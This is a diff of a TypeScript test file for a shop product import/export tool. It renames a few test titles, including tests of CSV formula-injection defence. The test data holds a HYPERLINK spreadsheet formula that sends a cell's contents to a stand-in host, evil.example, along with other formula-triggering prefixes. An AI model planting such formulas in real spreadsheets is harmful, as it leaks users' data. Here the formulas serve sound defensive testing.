@@ -99,7 +99,7 @@ test('reads three decimals of a weight in kilograms as grams', async () => {
   expect(await product('kilo-tva')).toMatchObject({ variants: [{ weight_grams: 1500 }] });
 });
 
-test('keeps letters beyond ASCII in handles', async () => {
+test('retains letters beyond ASCII in handles', async () => {
   const file = fileOf('Type,SKU,Name,Regular price\nsimple,AD-1,Þorláksmessa blóðberg,100\nsimple,AD-2,Łódź-muggen,100\nsimple,AD-3,Матрёшка,100\n');
   expect((await transfers.import(woocommerce, file, { vendorId })).outcomes.filter(({ kind }) => kind === 'created').map((outcome) => outcome.product)).toEqual([
     'thorlaksmessa-blodberg',
@@ -119,7 +119,7 @@ describe('formula cells', () => {
   const formulas = ['=HYPERLINK("http://evil.example?x="&A1,"klicka")', '+46', '-5 grader', '@a', "'=redan", '＝1+1'];
   const isFormula = (cell: string) => /^\s*[=+\-@＝＋－＠]|^[\t\r\n]/.test(cell);
 
-  test.each(formats.map((format) => [format.name, format] as const))('writes an apostrophe before a formula in a file of %s and takes it off again', async (name, format) => {
+  test.each(formats.map((format) => [format.name, format] as const))('prefixes formulas with an apostrophe in files of %s and restores them', async (name, format) => {
     const own = await api.make.vendor({ name: `Formler ${name}` });
     const lines = formulas.map((title, index) => {
       const cell = `"${title.replaceAll('"', '""')}"`;
